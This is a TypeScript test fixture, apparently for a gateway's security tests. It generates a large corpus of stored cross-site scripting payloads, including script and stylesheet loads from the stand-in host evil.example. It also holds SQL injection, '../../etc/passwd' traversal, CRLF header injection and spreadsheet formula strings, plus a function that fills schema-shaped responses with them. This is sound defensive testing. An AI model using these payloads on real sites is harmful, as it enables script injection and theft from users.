import type { JsonSchema } from './samples.ts'

/** Texts that people might store to harm those who read them later, and answers of the gateway that are full of them (security.md R-12). */

const HANDLERS = ['onerror', 'onload', 'onclick', 'onfocus', 'onmouseover', 'ontoggle', 'onanimationstart', 'onbeforeinput']
const TAGS = [
  'img src=x',
  'svg',
  'body',
  'input autofocus',
  'details open',
  'video src=x',
  'audio src=x',
  'math',
  'iframe',
  'object data=x',
  'marquee',
]
const CLOSERS = ['"', "'", '">', "'>", '</title>', '</textarea>', '</style>', '</script>', '-->', ']]>', '`', '</option></select>']

/** Three hundred and some. Each would set `__xss` on the page if it were taken for more than text. */
export const payloads: readonly string[] = [
  ...TAGS.flatMap((tag) => HANDLERS.map((handler) => `<${tag} ${handler}=__xss=1>`)),
  ...CLOSERS.flatMap((end) => [
    `${end}<script>__xss=1</script>`,
    `${end}<img src=x onerror=__xss=1>`,
    `${end} onfocus=__xss=1 autofocus x=${end}`,
  ]),
  ...[
    'javascript:__xss=1',
    'JaVaScRiPt:__xss=1',
    'java\nscript:__xss=1',
    '\u0001javascript:__xss=1',
    'data:text/html,<script>__xss=1</script>',
    'vbscript:__xss=1',
  ].flatMap((url) => [url, `<a href="${url}">x</a>`, `[x](${url})`, `<form action="${url}"><button>`]),
  ...[
    '{{constructor.constructor("__xss=1")()}}',
    `${'$'}{__xss=1}`,
    '#{__xss=1}',
    '<%= __xss=1 %>',
    '{{7*7}}',
    '$t(title)',
    '{{title}}',
    '[[__proto__]]',
    '__proto__',
    'constructor',
    'toString',
  ],
  ...[
    '<script>__xss=1</script>',
    '<SCRIPT SRC=//evil.example></SCRIPT>',
    '<link rel=stylesheet href=//evil.example>',
    '<base href=//evil.example>',
    '<meta http-equiv=refresh content=0>',
    '<style>*{background:url(//evil.example)}</style>',
    '<template><script>__xss=1</script></template>',
    '<noscript><p title="</noscript><img src=x onerror=__xss=1>">',
    '<math><mtext><table><mglyph><style><img src=x onerror=__xss=1>',
    '&lt;img src=x onerror=__xss=1&gt;',
    '&#60;script&#62;__xss=1&#60;/script&#62;',
    '%3Cscript%3E__xss=1%3C/script%3E',
    '\\u003cscript\\u003e__xss=1\\u003c/script\\u003e',
    '＜script＞__xss=1＜/script＞',
  ],
  ...[
    '\u202eabc',
    '\u200b\u200f\u2066',
    '👩‍👩‍👧‍👦𠮷',
    'é́́́',
    '\ufeff',
    ' leading and trailing ',
    '=1+1',
    '+cmd|calc',
    '@SUM(1)',
    "' or 1=1 --",
    '"; drop table x; --',
    'x'.repeat(2_000),
    'a\tb',
    '../../etc/passwd',
    '%00',
    '\r\nSet-Cookie: x=1',
    'null',
    'undefined',
    'NaN',
    '0',
    'true',
  ],
  ...Array.from(
    { length: 120 },
    (_, n) =>
      `${'<b>'.repeat((n % 5) + 1)}<${['i', 'u', 'x-y', 'fly-icon', 'slot', 'dialog'][n % 6]} id="p${n}" style="position:fixed" onpointerenter="__xss=${n}">`,
  ),
]

const INSTANT = '2026-11-21T02:30:00.000Z'
/** Fields that are texts on the wire and yet not free: the gateway makes them. */
const MADE: readonly [RegExp, unknown][] = [
  [/(At|Until|until|from|to|now|resumeAt)$/, INSTANT],
  [/^day$/, '2026-11-21'],
  [/^(gross|ceiling|lead|ownPrice|own|step|best|price|amount|ceilingUnitPrice|estimate|total|basis)$/, '980000.00'],
  [/^quantity$/, '12'],
  [/^currency$/, 'CNY'],
  [/^timeZone$/, 'Asia/Shanghai'],
  [/^visibility$/, 'leadPrice'],
  [/^(alias|leadAlias)$/, 'B01'],
  [/(^|[a-z])(hash|Hash|prev|sig|root|kid)$/, 'ab'.repeat(32)],
  [/^(id|projectId|customerId|userId|seq|path|key|openWay|icon|type|permissionCode|isShow)$/, undefined],
  [/^actions$/, []],
]

/** An answer that fits the schema, every free text in it `text`. Optional fields are there. */
export function poisoned(schema: JsonSchema, text: string, name = ''): unknown {
  if ('const' in schema) return schema.const
  const made = MADE.find(([pattern]) => pattern.test(name))
  if (schema.anyOf) return poisoned(schema.anyOf.find((one) => one.const === 'BIDDING') ?? schema.anyOf[0] ?? {}, text, name)
  switch (schema.type) {
    case 'object': {
      const record = Object.values(schema.patternProperties ?? {})[0]
      if (record) return { [text]: poisoned(record, text, name) }
      return Object.fromEntries(Object.entries(schema.properties ?? {}).map(([key, field]) => [key, poisoned(field, text, key)]))
    }
    case 'array':
      return made && Array.isArray(made[1]) ? made[1] : [poisoned(schema.items ?? {}, text, name.replace(/s$/, ''))]
    case 'integer':
    case 'number':
      return Math.max(1, schema.minimum ?? 1)
    case 'boolean':
      return true
    case 'null':
      return null
    case 'string':
      if (schema.format === 'date-time') return INSTANT
      return made ? (made[1] ?? 'P1') : text
    default:
      return text
  }
}
